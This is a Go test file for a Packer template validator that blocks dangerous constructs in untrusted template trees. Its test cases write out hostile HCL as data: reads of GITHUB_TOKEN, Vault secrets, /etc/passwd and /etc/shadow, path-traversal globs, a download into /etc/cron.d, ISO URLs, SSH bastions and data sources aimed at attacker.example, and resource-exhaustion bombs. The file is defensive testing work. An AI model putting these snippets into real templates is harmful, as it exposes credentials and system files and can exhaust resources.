// SPDX-License-Identifier: Apache-2.0
// Created: 2026-11-23T02:47:00Z
// Spec: openspec/specs/static-validation/spec.md#requirement-policy-for-untrusted-trees
// Diagram: openspec/specs/static-validation/diagram.md#policy

package validate_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/packer-hybrid/packer-hybrid/hybridcore"
	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate"
	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate/finding"
	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate/schemas"
	"github.com/packer-hybrid/packer-hybrid/hybridcore/validate/untrusted"
)

// build is a template with one more block in its build.
func build(block string) string {
	return `packer { required_version = ">= 1.10.0" }
variable "given" { type = string }
source "null" "x" { communicator = "none" }
build {
  sources = ["source.null.x"]
` + block + "\n}\n"
}

// What a tree of somebody untrusted could do is named by its rule; without a
// policy the same tree is allowed to.
func TestPolicy(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ text, rule string }{
		"environment": {head + "variable \"t\" {\n  default = env(\"GITHUB_TOKEN\")\n}\n", finding.RulePolicyCall},
		"Vault":       {head + "locals {\n  a = vault(\"secret/data/x\", \"key\")\n}\n", finding.RulePolicyCall},
		"Consul":      {head + "locals {\n  a = [for k in [\"a\"] : consul_key(k)]\n}\n", finding.RulePolicyCall},
		"AWS":         {head + "locals {\n  a = aws_secretsmanager(\"x\", \"y\")\n}\n", finding.RulePolicyCall},
		"file":        {head + "locals {\n  a = file(\"/etc/passwd\")\n}\n", finding.RulePolicyPath},
		"file below": {
			head + "locals {\n  a = file(\"${path.root}/a/../../../etc/passwd\")\n}\n",
			finding.RulePolicyPath,
		},
		"file in a loop":     {head + "locals {\n  a = [for f in [\"/etc/passwd\"] : file(f)]\n}\n", finding.RulePolicyPath},
		"file by a variable": {build(`  provisioner "shell" { inline = [file(var.given)] }`), finding.RulePolicyPath},
		"templatefile": {
			head + "locals {\n  a = templatefile(\"../../../../etc/hostname\", {})\n}\n",
			finding.RulePolicyPath,
		},
		"fileset": {head + "locals {\n  a = fileset(\"/\", \"**\")\n}\n", finding.RulePolicyPath},
		"home":    {head + "locals {\n  a = pathexpand(\"~/.ssh\")\n}\n", finding.RulePolicyCall},
		"data source": {
			head + "data \"http\" \"x\" {\n  url = \"https://attacker.example\"\n}\n",
			finding.RulePolicyData,
		},
		"plugin": {head + "packer {\n  required_plugins {\n    evil = {\n      source  = " +
			"\"github.com/attacker/evil\"\n      version = \">= 1.0.0\"\n    }\n  }\n}\n", finding.RulePolicyPlugin},
		"shell-local":       {build(`  provisioner "shell-local" { inline = ["id"] }`), finding.RulePolicyRun},
		"shell-local after": {build(`  post-processor "shell-local" { inline = ["id"] }`), finding.RulePolicyRun},
		"dynamic": {build(
			"  dynamic \"provisioner\" {\n    for_each = [1]\n    labels   = [\"shell-local\"]\n    content { inline = " +
				"[\"id\"] }\n  }"), finding.RulePolicyRun},
		"artifice": {build(`  post-processor "artifice" { files = ["/etc/shadow"] }`), finding.RulePolicyPart},
		"upload": {
			build(
				"  provisioner \"file\" {\n    source      = \"/etc/shadow\"\n    destination = \"/tmp/x\"\n  }"),
			finding.RulePolicyPath,
		},
		"download": {build(
			"  provisioner \"file\" {\n    direction   = \"download\"\n    source      = \"/tmp/x\"\n    destination = " +
				"\"/etc/cron.d/x\"\n  }"), finding.RulePolicyPath},
		"ansible command": {
			build(
				"  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    command       = \"./evil\"\n  }"),
			finding.RulePolicyRun,
		},
		"HTTP folder":      {iso(`http_directory = "/"`), finding.RulePolicyPath},
		"CD files":         {iso(`cd_files = ["/etc/*"]`), finding.RulePolicyPath},
		"key file":         {iso(`ssh_private_key_file = "~/.ssh/id_rsa"`), finding.RulePolicyPath},
		"agent":            {iso(`ssh_agent_auth = true`), finding.RulePolicyRun},
		"medium":           {iso(`iso_url = "file:///etc/shadow"`), finding.RulePolicyURL},
		"medium elsewhere": {iso(`iso_url = "https://attacker.example/x.iso"`), finding.RulePolicyURL},
		"medium with name": {iso(`iso_url = "https://mirror.example@attacker.example/x.iso"`), finding.RulePolicyURL},
		"bastion":          {iso(`ssh_bastion_host = "attacker.example"`), finding.RulePolicyReach},
		"bastion's agent":  {iso(`ssh_bastion_agent_auth = true`), finding.RulePolicyReach},
		"proxy":            {iso(`ssh_proxy_host = "attacker.example"`), finding.RulePolicyReach},
		"tunnel":           {iso(`ssh_remote_tunnels = ["8080:localhost:22"]`), finding.RulePolicyReach},
		"tunnel from here": {iso(`ssh_local_tunnels = ["8080:localhost:22"]`), finding.RulePolicyReach},
		"another host":     {iso(`ssh_host = "attacker.example"`), finding.RulePolicyReach},
		"another Windows":  {iso(`winrm_host = "attacker.example"`), finding.RulePolicyReach},
		"proxy by a file": {iso("ssh_proxy_host = var.proxy") +
			"variable \"proxy\" {\n  type    = string\n  default = \"attacker.example\"\n}\n", finding.RulePolicyReach},
		"registry":           {build("  hcp_packer_registry {\n    bucket_name = \"x\"\n  }"), finding.RulePolicyPart},
		"registry above":     {head + "hcp_packer_registry {\n  bucket_name = \"x\"\n}\n", finding.RulePolicyPart},
		"communicator above": {head + "communicator \"ssh\" \"x\" {}\n", finding.RulePolicyPart},
		"bastion in a build": {strings.Replace(iso(""), "sources = [\"source.vsphere-iso.x\"]",
			"source \"source.vsphere-iso.x\" {\n    ssh_bastion_host = \"attacker.example\"\n  }", 1), finding.RulePolicyReach},
		"override": {build("  provisioner \"ansible\" {\n    playbook_file = \"./a.pkr.hcl\"\n    override = {\n      x = " +
			"{ command = \"./evil\" }\n    }\n  }"), finding.RulePolicyRun},
		"checksum": {iso(`iso_checksum = "file:http://attacker.example/x"`), finding.RulePolicyURL},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			in := input(map[string]string{"a.pkr.hcl": test.text})
			if strings.Contains(test.text, `source "vsphere-iso" "x"`) {
				in.Targets[0].Source = "vsphere-iso.x"
			}
			is := func(f hybridcore.Finding) bool {
				return f.Rule == test.rule && f.Kind == finding.KindPolicy && f.Blocking && f.Line > 0
			}
			if findings := validate.Check(in); slices.ContainsFunc(findings, is) {
				t.Errorf("without a policy: %v", findings)
			}
			in.Policy = &untrusted.Policy{Hosts: []string{"mirror.example"}}
			findings := validate.Check(in)
			if !slices.ContainsFunc(findings, is) || hybridcore.Blocked(findings) != hybridcore.BlockedByRule {
				t.Errorf("want %s in %v", test.rule, findings)
			}
		})
	}
	in := input(map[string]string{"a.pkr.hcl": iso(`iso_url = "https://mirror.example/x.iso"`)})
	in.Policy = &untrusted.Policy{Hosts: []string{"mirror.example"}}
	for _, f := range validate.Check(in) {
		if f.Kind == finding.KindPolicy {
			t.Errorf("an allowed host: %v", f)
		}
	}
}

// A bomb is refused before anything is evaluated, wherever Packer would evaluate
// it, in little time and memory; the same functions are fine within bounds.
func TestPolicyBoundsWork(t *testing.T) { // not beside others: it measures time
	for name, text := range map[string]string{
		"width":            `format("%999999999s", "x")`,
		"width of a list":  `formatlist("%99999999s", ["x"])`,
		"width by a value": `format(format("%%%ds", 99999999), "x")`,
		"precision":        `format("%.999999999f", 1)`,
		"indent":           `indent(999999999, "a\nb")`,
		"bcrypt":           `bcrypt("x", 31)`,
		"YAML":             `yamldecode("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]")`,
		"ranges":           `[for a in range(1000) : [for b in range(1000) : [for c in range(1000) : 1]]]`,
		"range of a loop":  `[for a in range(1000) : [for b in range(a) : [for c in range(b) : 1]]]`,
		"product":          `setproduct(range(1000), range(1000), range(1000))`,
		"join":             `join(join("-----------------", range(1000)), range(1000))`,
		"replace":          `replace(join("", range(1000)), "/./", join("", range(1000)))`,
		"nested":           `[for a in setproduct(range(100), range(100)) : [for b in setproduct(range(100), range(100)) : 1]]`,
	} {
		for where, tree := range map[string]string{
			"local":   head + "locals {\n  a = " + text + "\n}\n",
			"default": head + "variable \"a\" {\n  default = " + text + "\n}\n",
			"condition": head + "variable \"a\" {\n  type    = string\n  default = \"\"\n  validation {\n    condition     = " +
				"length(" + text + ") > 0\n    error_message = \"No.\"\n  }\n}\n",
			"source": iso("vm_name = jsonencode(" + text + ")"),
		} {
			in := input(map[string]string{"a.pkr.hcl": tree})
			in.Policy = &untrusted.Policy{}
			var findings []hybridcore.Finding
			took, held := cost(t, func() { findings = validate.Check(in) })
			if !slices.ContainsFunc(findings,
				func(f hybridcore.Finding) bool { return f.Rule == finding.RuleWork && f.Blocking }) {
				t.Errorf("%s in a %s: %.1000v", name, where, findings)
			}
			if took > 2*maxTime*slow || held > maxBytes {
				t.Errorf("%s in a %s: took %v and held %d MiB", name, where, took, held>>20)
			}
		}
	}
	powers := func(of string) string { return of + strings.Repeat(" * "+of, 900) }
	in := input(map[string]string{"a.pkr.hcl": head + "locals {\n  a = " + powers("pow(10, 300)") + "\n  b = " +
		powers("local.a") + "\n  c = \"${local.b}\"\n}\n"})
	in.Policy = &untrusted.Policy{}
	took, held := cost(t, func() {
		if findings := validate.Check(in); !slices.ContainsFunc(findings,
			func(f hybridcore.Finding) bool { return f.Rule == finding.RuleWork && f.Blocking }) {
			t.Errorf("powers of powers: %.1000v", findings)
		}
	})
	if took > 2*maxTime*slow || held > maxBytes {
		t.Errorf("powers of powers: took %v and held %d MiB", took, held>>20)
	}
	for _, text := range []string{
		`format("%-20s %03d", "x", 1)`, `indent(2, "a\nb")`, `bcrypt("x", 4)`, `yamldecode("a: 1")`,
		`[for i in range(10) : i]`,
		`setproduct(range(10), range(10))`, `pow(2, 16)`, `join(", ", [for i in range(50) : format("%d", i)])`,
	} {
		in := input(map[string]string{"a.pkr.hcl": head + "locals {\n  a = " + text + "\n}\n"})
		in.Policy = &untrusted.Policy{}
		for _, f := range validate.Check(in) {
			if f.Blocking {
				t.Errorf("%s: %v", text, f)
			}
		}
	}
}

// A pattern of fileset stays in its folder.
func TestPolicyPatterns(t *testing.T) {
	t.Parallel()
	hidden := "variable \"v\" {\n  type      = string\n  sensitive = true\n  default   = \"x\"\n}\n"
	for call, refused := range map[string]bool{
		`fileset(path.root, "../../../../../**")`: true, `fileset(path.root, "x/../../../etc/*")`: true,
		`fileset(path.root, "{..,x}/*")`: true, `fileset(path.root, "{x/..,y}/*")`: true, `fileset(path.root, "a/..")`: true,
		`fileset(path.root, ".{.,x}/*")`: true, `fileset(path.root, "{.,x}{.,y}/*")`: true,
		`fileset(path.root, ".{,.}/*")`: true,
		`fileset(path.root, "/etc/*")`:  true, `fileset(path.root, "~/*")`: true, `fileset(path.root, "x\\..\\*")`: true,
		`fileset(path.root, "\\.\\./*")`: true, `fileset(path.root, "${".."}/*")`: true, `fileset(path.root, var.v)`: true,
		`fileset(path.root, local.up)`: true, `fileset(path.root, "${local.up}*")`: true, `fileset(path.root, "")`: true,
		`[for p in ["../*"] : fileset(path.root, p)]`: true, `fileset([path.root, "../*"]...)`: true,
		`fileset(path.root, ["../*"]...)`: true, `file(["/etc/shadow"]...)`: true, `filebase64(["/etc/shadow"]...)`: true,
		`templatefile("/etc/shadow", [{}]...)`: true, `can(fileset(path.root, "../*"))`: true,
		`fileset(path.root, "*.{pkr.hcl,tpl}")`: false, `fileset(path.root, "**/*.yml")`: false,
		`fileset(path.root, "./*")`: false, `fileset("${path.root}/x", "a..b/*")`: false, `fileset(path.root, ".*")`: false,
		`fileset(path.root, "${local.name}/*")`: false,
	} {
		in := input(map[string]string{
			"a.pkr.hcl": head + hidden + "locals {\n  up   = \"../\"\n  name = \"x\"\n  a    = " + call + "\n}\n",
		})
		in.Policy = &untrusted.Policy{}
		findings := validate.Check(in)
		if slices.ContainsFunc(findings, func(f hybridcore.Finding) bool {
			return f.Rule == finding.RulePolicyPath && f.Blocking && f.Line > 0 && f.Hint != ""
		}) != refused {
			t.Errorf("%s: refused is not %v: %.600v", call, refused, findings)
		}
	}
}

// iso is a source with one more setting.
func iso(setting string) string {
	return "packer {\n  required_version = \">= 1.10.0\"\n  required_plugins {\n    vsphere = {\n      source  = " +
		"\"github.com/hashicorp/vsphere\"\n      version = \">= 1.4.0\"\n    }\n  }\n}\n" +
		"source \"vsphere-iso\" \"x\" {\n  " + setting + "\n}\nbuild {\n  sources = [\"source.vsphere-iso.x\"]\n}\n"
}

// Every embedded schema can be read.
func TestEmbeddedSchemas(t *testing.T) {
	t.Parallel()
	for kind, names := range map[schemas.Kind][]string{
		schemas.Builder: {
			"azure-arm", "azure-chroot", "azure-dtl", "file", "null", "proxmox-clone", "proxmox-iso",
			"vsphere-clone", "vsphere-iso", "vsphere-supervisor",
		},
		schemas.Provisioner: {
			"ansible", "ansible-local", "azure-dtlartifact", "breakpoint", "file", "hcp-sbom",
			"powershell", "shell", "shell-local", "sleep", "windows-restart", "windows-shell",
		},
		schemas.PostProcessor: {
			"artifice", "checksum", "compress", "manifest", "shell-local", "vsphere",
			"vsphere-template",
		},
		schemas.DataSource: {
			"azure-keyvaultsecret", "hcp-packer-artifact", "hcp-packer-image", "hcp-packer-iteration",
			"hcp-packer-version", "http", "null",
		},
	} {
		for _, name := range names {
			if schema, ok := schemas.Embedded(kind, name); !ok || len(schema.Attributes) == 0 || schema.Plugin == "" ||
				schema.Version == "" {
				t.Errorf("%s %s: %+v", kind, name, schema)
			}
		}
	}
}

// No text makes the check panic, hang or answer differently the second time.
func FuzzCheck(f *testing.F) {
	for _, test := range hostile() {
		if len(test.text) < 2_000 {
			f.Add(test.text, "a: 1")
		}
	}
	f.Add(iso(`iso_url = "x"`), "- a: &b [*b]")
	f.Add(build("  dynamic \"provisioner\" {\n    for_each = var.given\n    labels   = [\"shell\"]\n    content { "+
		"inline = [provisioner.value] }\n  }"), "x: [")
	f.Fuzz(func(t *testing.T, text, playbook string) {
		in := input(map[string]string{"a.pkr.hcl": text, "p.yml": playbook, "t.tpl": text})
		in.Policy = &untrusted.Policy{}
		first, second := validate.Check(in), validate.Check(in)
		if len(first) != len(second) {
			t.Errorf("%d and %d findings", len(first), len(second))
		}
	})
}
